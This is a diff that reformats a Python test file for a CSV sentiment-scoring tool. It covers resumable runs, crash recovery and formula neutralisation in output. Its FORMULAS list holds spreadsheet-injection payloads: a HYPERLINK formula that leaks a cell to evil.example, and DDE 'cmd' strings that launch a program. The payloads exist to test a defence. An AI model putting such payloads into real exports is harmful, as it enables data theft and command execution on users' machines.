@@ -34,8 +34,11 @@ def _read_csv(path):
 
 def test_score_keeps_columns_and_adds_scores(tmp_path, real_pipeline):
     src = tmp_path / "in.csv"
-    src.write_text('id,text,extra\n1,"Great taste but the box arrived crushed.",a\n2,,b\n'
-                   '3,味道很好，但是包装破损了,c\n', encoding="utf-8")
+    src.write_text(
+        'id,text,extra\n1,"Great taste but the box arrived crushed.",a\n2,,b\n'
+        "3,味道很好，但是包装破损了,c\n",
+        encoding="utf-8",
+    )
     rep = score_file(src, tmp_path / "out.csv", scorer=real_pipeline, detector=LanguageDetector())
     rows = _read_csv(tmp_path / "out.csv")
     assert rep.rows == 3 and rep.scored == 2 and rep.errors == 1
@@ -43,7 +46,15 @@ def test_score_keeps_columns_and_adds_scores(tmp_path, real_pipeline):
     assert rows[0]["sentiment"] in ("positive", "negative", "neutral")
     aspects = json.loads(rows[0]["aspects"])
     assert {a["aspect"] for a in aspects} >= {"taste", "packaging"}
-    assert set(aspects[0]) == {"aspect", "confidence", "sentiment", "sentiment_score", "evidence", "reason", "rule"}
+    assert set(aspects[0]) == {
+        "aspect",
+        "confidence",
+        "sentiment",
+        "sentiment_score",
+        "evidence",
+        "reason",
+        "rule",
+    }
     assert aspects[0]["reason"] in ("rule", "model", "rule+model")
     assert rows[1]["sentiment"] == "" and "row 3, field text: empty" in rows[1]["error"]
     assert rows[2]["language"] == "zh" and rows[0]["language"] == "en"
@@ -63,7 +74,14 @@ def test_interrupted_run_resumes_without_duplicates_or_gaps(tmp_path, fake_score
             raise Boom()
 
     with pytest.raises(Boom):
-        score_file(src, out, scorer=fake_scorer, detector=LanguageDetector(), chunk_size=40, on_chunk=die_after_three)
+        score_file(
+            src,
+            out,
+            scorer=fake_scorer,
+            detector=LanguageDetector(),
+            chunk_size=40,
+            on_chunk=die_after_three,
+        )
     state = json.loads((tmp_path / f"out{suffix}.progress.json").read_text())
     assert state["rows_done"] == 120
     rep = score_file(src, out, scorer=fake_scorer, detector=LanguageDetector(), chunk_size=40)
@@ -82,10 +100,16 @@ def test_a_changed_input_starts_over(tmp_path, fake_scorer):
     src = _demo_csv(tmp_path, per_week=2)
     out = tmp_path / "out.csv"
     with pytest.raises(Boom):
-        score_file(src, out, scorer=fake_scorer, detector=LanguageDetector(), chunk_size=10,
-                   on_chunk=lambda n: (_ for _ in ()).throw(Boom()))
+        score_file(
+            src,
+            out,
+            scorer=fake_scorer,
+            detector=LanguageDetector(),
+            chunk_size=10,
+            on_chunk=lambda n: (_ for _ in ()).throw(Boom()),
+        )
     src.write_text(src.read_text(encoding="utf-8") + "", encoding="utf-8")  # same content…
-    os.utime(src, ns=(time.time_ns(), time.time_ns() + 10**9))              # …but touched
+    os.utime(src, ns=(time.time_ns(), time.time_ns() + 10**9))  # …but touched
     rep = score_file(src, out, scorer=fake_scorer, detector=LanguageDetector(), chunk_size=10)
     assert rep.resumed_from == 0 and len(_read_csv(out)) == rep.rows
 
@@ -95,13 +119,30 @@ def test_killed_cli_job_finishes_on_rerun_with_the_same_rows(tmp_path):
     """`radar score` killed with SIGKILL mid-run; the re-run completes the output exactly."""
     src = _demo_csv(tmp_path, per_week=40)  # ~1,050 rows
     out = tmp_path / "scored.csv"
-    env = {**os.environ, "RADAR_NO_PROGRESS": "1", "RADAR_DATABASE_URL": f"sqlite:///{tmp_path}/x.db"}
-    cmd = [sys.executable, "-m", "service.cli.main", "score", str(src), "-o", str(out), "--chunk-size", "100"]
+    env = {
+        **os.environ,
+        "RADAR_NO_PROGRESS": "1",
+        "RADAR_DATABASE_URL": f"sqlite:///{tmp_path}/x.db",
+    }
+    cmd = [
+        sys.executable,
+        "-m",
+        "service.cli.main",
+        "score",
+        str(src),
+        "-o",
+        str(out),
+        "--chunk-size",
+        "100",
+    ]
     proc = subprocess.Popen(cmd, env=env, cwd=ROOT)
     progress = tmp_path / "scored.csv.progress.json"
     deadline = time.time() + 240
     while time.time() < deadline:
-        if progress.exists() and json.loads(progress.read_text() or "{}").get("rows_done", 0) >= 300:
+        if (
+            progress.exists()
+            and json.loads(progress.read_text() or "{}").get("rows_done", 0) >= 300
+        ):
             break
         time.sleep(0.2)
     proc.send_signal(signal.SIGKILL)
@@ -116,9 +157,15 @@ def test_killed_cli_job_finishes_on_rerun_with_the_same_rows(tmp_path):
     assert all(r["sentiment"] for r in rows)
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tab first", "\r=1+1 carriage return first",
-            "＝1+1 full-width"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 tab first",
+    "\r=1+1 carriage return first",
+    "＝1+1 full-width",
+]
 
 
 def test_csv_output_neutralises_formulas_but_keeps_numbers(tmp_path, fake_scorer):
@@ -145,7 +192,10 @@ def test_csv_output_neutralises_formulas_but_keeps_numbers(tmp_path, fake_scorer
         assert all(not v.startswith("-") or v == "-7" or float(v) <= 0 for v in r.values() if v)
 
     score_file(src, tmp_path / "out.jsonl", scorer=fake_scorer, detector=LanguageDetector())
-    records = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
+    records = [
+        json.loads(line)
+        for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
+    ]
     assert [r["note"] for r in records] == FORMULAS + ["-"]
     assert all(isinstance(r["sentiment_score"], float) for r in records)
     assert any(r["sentiment_score"] < 0 for r in records)
